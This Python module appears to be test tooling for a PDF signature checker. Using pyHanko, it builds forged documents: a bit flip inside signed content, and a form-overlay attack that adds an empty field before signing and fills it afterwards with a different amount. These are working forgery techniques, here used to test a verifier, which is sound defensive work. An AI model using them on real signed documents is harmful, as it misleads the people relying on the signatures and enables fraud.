"""What a forger does to a signed document: for the story and the tests, with the product's own eyes as the target."""

import io
from typing import Final

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

FIELD: Final = "SoTien"
_BOX: Final = (85.0, 300.0, 480.0, 330.0)


def tamper(data: bytes) -> bytes:
    """Flip one bit in the middle of what the first signature covers."""
    at = data.index(b"stream", len(data) // 50) + 40
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]


def with_form_field(data: bytes) -> bytes:
    """Put a text field, still empty, on the first page before anybody signs: the trap of the form-overlay attack."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data))
    page, _ = writer.find_page_for_modification(0)
    field = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): generic.pdf_string(FIELD),
            pdf_name("/V"): generic.pdf_string(""),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.FloatObject, _BOX)),
            pdf_name("/P"): page,
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(_appearance(b""))}),
        }
    )
    reference = writer.add_object(field)
    page_object = page.get_object()
    assert isinstance(page_object, generic.DictionaryObject)
    page_object[pdf_name("/Annots")] = generic.ArrayObject([reference])
    form = generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject([reference])})
    writer.root[pdf_name("/AcroForm")] = writer.add_object(form)
    writer.update_root()
    return _written(writer)


def overlay_form(data: bytes) -> bytes:
    """Fill that field after the last signature, so that a reader sees another sum than was signed."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data))
    fields = writer.root["/AcroForm"]["/Fields"]
    for reference in fields:
        field = reference.get_object()
        if field["/T"] == FIELD:
            break
    else:
        raise ValueError("the document has no field to fill")
    drawing = b"1 1 1 rg 0 0 395 30 re f 0 g 0 0 395 2 re f"
    field[pdf_name("/V")] = generic.pdf_string("9.000.000.000")
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(_appearance(drawing))})
    writer.update_container(field)
    return _written(writer)


def _appearance(drawing: bytes) -> generic.StreamObject:
    left, bottom, right, top = _BOX
    return generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(map(generic.FloatObject, (0, 0, right - left, top - bottom))),
        },
        stream_data=drawing,
    )


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
